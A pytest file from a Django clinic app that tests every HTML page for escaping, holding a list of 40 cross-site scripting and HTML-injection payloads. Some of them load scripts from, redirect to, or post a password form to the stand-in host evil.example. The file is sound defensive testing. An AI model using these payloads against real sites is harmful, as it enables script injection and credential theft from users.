"""Markup that somebody typed, or that stands in the database however it came there, is text on every page."""

import pytest
from django.contrib.auth.models import User
from django.test import Client

from patients.models import Message, Patient
from patients.tests.conftest import ANA
from patients.tests.pages import Page, every_url, together

pytestmark = [pytest.mark.slow, pytest.mark.once]

PLAIN = "www.plain.example/ like them no name and no address, but without markup"
MARKUP = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script/x>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus x='",
    "` onclick=alert(1) `",
    "x onerror=alert(1)",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</option></select><b>x</b>",
    "</a><a href=javascript:alert(1)>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=data:text/html,x></object>",
    "<embed src=x>",
    "<base href=//evil.example/>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><input name=password></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<template><b>x</b></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<b>x</b>]]>",
    "<?xml version='1.0'?><b>x</b>",
    "&lt;b&gt;x&lt;/b&gt;<b>x</b>",
    "&#60;script&#62;<u>x</u>",
    "{{ 7|add:7 }}{% debug %}<i>x</i>",
    "javascript:alert(1)//<p>",
    "%3Cscript%3Ealert(1)%3C/script%3E<hr>",
]


@pytest.fixture
def people(registered, desk, back_office):
    registered()
    clients = [Client(), desk, back_office]
    for client in clients:
        client.raise_request_exception = False
    return clients


def pages_with(text, people, settings):
    """Return {where: what it is made of} of every HTML page, with the text wherever one can be."""
    # Past the rules, which would refuse it at the doors: an old row, another program's, a mistake of ours.
    Patient.objects.update(full_name=text, address=text, email=text)
    Message.objects.update(failure=f"unexpected {text}"[:100], channel="email", status="failed")
    User.objects.update(first_name=text[:100], last_name=text[:100], email=text)
    settings.CLINIC_NAME = text
    asked = dict.fromkeys(("search", "q", "before", "next", "size", "o", "p", "email", "full_name", text), text)
    found = {}
    for number, client in enumerate(people):
        for url in [*every_url(Patient.objects.get()), f"/{text}/", f"/patients/{text[:8]}/"]:
            if "logout" not in url:
                keep(found, f"{number} GET {url.replace(text, '…').replace(text[:8], '…')}", client.get(url, asked))
    posted = dict.fromkeys(
        [*ANA, "username", "password", "old_password", "code", "kept_photo", "next", "carried"], text
    )
    for number, client in enumerate(people):
        for url in ("/accounts/login/", "/accounts/password/", "/patients/register/", "/admin/patients/patient/add/"):
            keep(found, f"{number} POST {url}", client.post(url, posted))
    return found


def keep(found, where, answer):
    assert answer.status_code < 500, where
    if "html" in answer.headers.get("Content-Type", "") and not answer.streaming:
        found[where] = Page(answer).elements


def test_there_are_forty_of_them():
    assert len(set(MARKUP)) == 40


def test_adds_no_element_and_no_attribute_to_any_page(people, settings):
    settings.SIGN_IN_TRIES = settings.SIGN_IN_TRIES_PER_ADDRESS = 10_000
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
    expected = pages_with(PLAIN, people, settings)
    assert len(expected) > 100

    differing = {}
    for text in together(MARKUP):
        for where, elements in pages_with(text, people, settings).items():
            if where in expected and elements != expected[where]:
                differing[f"{where}: {text}"] = (elements - expected[where], expected[where] - elements)

    assert differing == {}
    assert "".join(together(MARKUP)) == "".join(MARKUP)
